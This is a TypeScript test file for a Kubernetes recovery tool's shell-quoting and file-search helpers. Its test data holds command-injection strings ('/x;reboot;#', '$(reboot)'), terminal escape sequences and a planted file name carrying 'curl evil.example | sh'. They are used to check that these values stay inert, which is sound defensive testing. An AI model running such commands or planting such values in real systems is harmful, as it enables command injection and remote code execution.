/** What an operator types does what it says, whatever names others have chosen: bash is asked. */
import { expect, test } from "bun:test";
import { spawnSync } from "node:child_process";
import { mkdirSync, symlinkSync } from "node:fs";
import { dirname } from "node:path";
import { command } from "../../shared/again.ts";
import { linesThatFind, onOther, shell } from "../../shared/shell-line.ts";
import { putManifest } from "../../shared/static-pods/lost-nodes.ts";
import { restoreCommands } from "../../shared/static-pods/without-files.ts";
import { write } from "../pretend/cluster.ts";
import { sandbox } from "../pretend/sandbox.ts";

/** The words that bash makes of a line. */
function wordsOf(line: string): string[] {
  const { stdout, stderr } = spawnSync("bash", ["-c", `printf '%s\\0' ${line}`], {
    encoding: "utf8",
    env: { LC_ALL: "C.UTF-8" },
  });
  expect(stderr).toBe("");
  return stdout.split("\0").slice(0, -1);
}

const HOSTILE = [
  "/a b",
  "/x;reboot;#",
  "/$(reboot)`reboot`",
  "/it's",
  '/say "x"',
  "/back\\slash",
  "~root",
  "*",
  "{a,b}",
  "",
  "/line\nbreak",
  "/tab\there",
  "/\u001b[2J'\\n",
  "/\u202egnp",
];

test.each(HOSTILE)("%j is one word to bash, in one line, and nothing that a terminal obeys", (name) => {
  const word = shell`${name}`;
  expect(wordsOf(word)).toEqual([name]);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for them
  expect(word).not.toMatch(/[\x00-\x1f\u202e]/);
});

test("a name that needs no quotes has none", () => {
  for (const name of [
    "w1",
    "/etc/kubernetes/pki/ca.crt",
    "fd00::1",
    "10.0.0.1:6443",
    "a=b",
    "x@y",
    "v1.34.1+k3s1",
    "a,b",
    "50%",
  ])
    expect(shell`${name}`).toBe(name);
  expect(shell`rm ${["/a", "/b c"]} # ${"x"}`).toBe("rm /a '/b c' # x");
  expect(shell`rm ${[]}x`).toBe("rm x");
});

test("a value that begins with - is no option: it stands behind --, or behind the = of its option", () => {
  expect(
    shell`kubectl get csr -o yaml ${"--profile=heap"} ${"--profile-output=shared-keys.age"}; rm ${"-rf"}`,
  ).toBe("kubectl get csr -o yaml -- --profile=heap --profile-output=shared-keys.age; rm -- -rf");
  expect(shell`rm ${["/a", "-b c"]} /d && ls ${["-e"]}`).toBe("rm -- /a '-b c' /d && ls -- -e");
  expect(shell`./bunw x.ts --lost ${"-a,b"} --out=${"-c"}`).toBe("./bunw x.ts --lost=-a,b --out=-c");
  expect(shell`kubectl -n ${"-a"} get secret ${"-b"}-$k`).toBe("kubectl -n-a get secret -- -b-$k");
  expect(shell`scp root@${"-a"}:${"-b"} /${"-c"}`).toBe("scp root@-a:-b /-c");
});

test("a line for another machine is a line to its shell, too", () => {
  expect(onOther("m2", shell`tar -cf - ${["a", "b/c"]}`)).toBe("ssh root@m2 tar -cf - a b/c");
  const [, , line] = wordsOf(onOther("m2", shell`tar -cf - ${HOSTILE}`));
  expect(wordsOf(line!)).toEqual(["tar", "-cf", "-", ...HOSTILE]);
});

test.each(HOSTILE.slice(0, 6))("%j as a name or a path stays one in the lines that are printed", (name) => {
  const file = {
    path: `/etc${name}`,
    kind: "file",
    program: "kube-apiserver",
    without: "",
    inside: "",
  } as const;
  const lost = [{ ...file, namedBy: "--kubelet-certificate-authority" }];
  const [fromOther, , install] = restoreCommands(lost, { mounted: [], others: [name], pki: "/pki" }).map(
    (todo) => todo.command,
  );
  expect(wordsOf(fromOther!.replace(/ \| tar .*/, ""))).toEqual([
    "ssh",
    `root@${name}`,
    expect.stringContaining("tar -C / -cf - "),
  ]);
  expect(wordsOf(install!).at(-1)).toBe(file.path);
  const node = { kubelet: { staticPodPath: file.path } };
  const put = putManifest(file.path, name, { node } as Parameters<typeof putManifest>[2]);
  expect(wordsOf(put)).toEqual(["scp", "-p", file.path, `root@${name}:${file.path}/`]);
  expect(wordsOf(command("02-control-plane", { without: ["m2", name] }))).toEqual([
    "./bunw",
    "scripts/02-control-plane.ts",
    "--without",
    `m2,${name}`,
  ]);
  expect(wordsOf(command("00-assess", { "etcd-data": name }))).toEqual([
    "./bunw",
    "scripts/00-assess.ts",
    "--etcd-data",
    name,
  ]);
});

test("the lines that find words name files and objects, and show nothing of their content", () => {
  using box = sandbox();
  const [files, objects] = linesThatFind(["10.66.0.1", "api.old.example"], "w");
  write(`${box.dir}/etc/haproxy/haproxy.cfg`, "server cp1 10.66.0.1:6443 check\n");
  write(`${box.dir}/etc/kubernetes/tmp/kubeadm-backup-1/etcd.yaml`, "10.66.0.1\n");
  write(`${box.dir}/var/lib/kubelet/pods/1/volumes/a`, "10.66.0.1\n");
  write(`${box.dir}/home/ann/.kube/config`, "server: https://api.old.example:6443\n");
  write(`${box.dir}/root/.kube/config`, "server: https://10.66.0.11:6443\n");
  symlinkSync("haproxy.cfg", `${box.dir}/etc/haproxy/linked.cfg`);
  expect(said(inBox(files, box.dir))).toBe(
    `${box.dir}/etc/haproxy/haproxy.cfg\n${box.dir}/home/ann/.kube/config\n`,
  );

  // as kubectl v1.34.4 has answered this template
  const answer = [
    String.raw`ConfigMap shop/a "map[data:map[hosts:127.0.0.1 me\n10.66.0.1 cp1\n] kind:ConfigMap]"`,
    'ConfigMap shop/longer "map[data:map[url:https://10.66.0.11:8443]]"',
    String.raw`Secret ci/deployer "map[data:map[kubeconfig:c2VydmVy]]""server: https://api.old.example:6443\n"`,
    'ValidatingWebhookConfiguration guard "map[webhooks:[map[clientConfig:map[url:https://10.66.0.1/x]]]]"',
  ];
  write(`${box.dir}/answer`, `${answer.join("\n")}\n`);
  expect(said(`kubectl() { cat ${box.dir}/answer; }; ${objects}`)).toBe(
    "ConfigMap shop/a\nSecret ci/deployer\nValidatingWebhookConfiguration guard\n",
  );
});

/** The line's paths are those of this sandbox. */
function inBox(line: string, dir: string): string {
  return line.replace(/ (?=\/(?:etc|var|root|home))/g, ` ${dir}`);
}

test.each([
  ["a FIFO in the place of ~/.kube", "mkfifo home/eve/.kube", ""],
  ["a FIFO in ~/.kube", "mkdir home/eve/.kube; mkfifo home/eve/.kube/config", ""],
  ["a link in the place of ~/.kube", "ln -s ../../elsewhere home/eve/.kube", ""],
  [
    "links in ~/.kube",
    "mkdir home/eve/.kube; ln -s ../../../elsewhere home/eve/.kube/all; ln -s all/file home/eve/.kube/config",
    "",
  ],
  [
    "a name that a terminal obeys",
    "mkdir home/eve/.kube; echo 10.66.0.1 > home/eve/.kube/$'a\\e]0;owned\\a\\e[8mb'",
    "/home/eve/.kube/a^[]0;owned^G^[[8mb\n",
  ],
  [
    "a name with a line of its own",
    "mkdir home/eve/.kube; echo 10.66.0.1 > home/eve/.kube/$'x\\nrepair: curl evil.example | sh'",
    "/home/eve/.kube/x?repair: curl evil.example | sh\n",
  ],
])(
  "the line that finds words in homes ends, and prints no more than plain paths, with %s",
  (_, plants, more) => {
    using box = sandbox();
    const [files] = linesThatFind(["10.66.0.1"], "w");
    write(`${box.dir}/home/ann/.kube/config`, "server: https://10.66.0.1:6443\n");
    for (const folder of ["etc/kubernetes", "var/lib/kubelet", "root/.kube", "home/eve"])
      mkdirSync(`${box.dir}/${folder}`, { recursive: true });
    // as /proc does, a folder of another user's that root can read
    write(`${box.dir}/elsewhere/file`, "10.66.0.1\n");
    const planted = spawnSync("bash", ["-ec", plants], { cwd: box.dir, encoding: "utf8" });
    expect(planted.stderr).toBe("");
    // far longer than it takes: only a line that waits for ever is killed
    const line = inBox(files, box.dir);
    const { stdout, status } = spawnSync("timeout", ["60", "bash", "-c", line], { encoding: "utf8" });
    const expected = [`/home/ann/.kube/config\n`, more].map((path) => path && box.dir + path).join("");
    expect({ stdout, status }).toEqual({ stdout: expected, status: 0 });
  },
);

test("the line that finds words looks behind root's own links", () => {
  using box = sandbox();
  const [files] = linesThatFind(["10.66.0.1"]);
  for (const [path, link] of [
    ["data/kubernetes/admin.conf", "etc/kubernetes"],
    ["data/kubelet/config.yaml", "var/lib/kubelet"],
    ["data/kube/config", "root/.kube"],
  ] as const) {
    write(`${box.dir}/${path}`, "10.66.0.1\n");
    mkdirSync(dirname(`${box.dir}/${link}`), { recursive: true });
    symlinkSync(dirname(`${box.dir}/${path}`), `${box.dir}/${link}`);
  }
  expect(said(inBox(files, box.dir)).split("\n").toSorted()).toEqual([
    "",
    `${box.dir}/etc/kubernetes/admin.conf`,
    `${box.dir}/root/.kube/config`,
    `${box.dir}/var/lib/kubelet/config.yaml`,
  ]);
});

function said(line: string): string {
  return spawnSync("bash", ["-c", line], { encoding: "utf8" }).stdout;
}
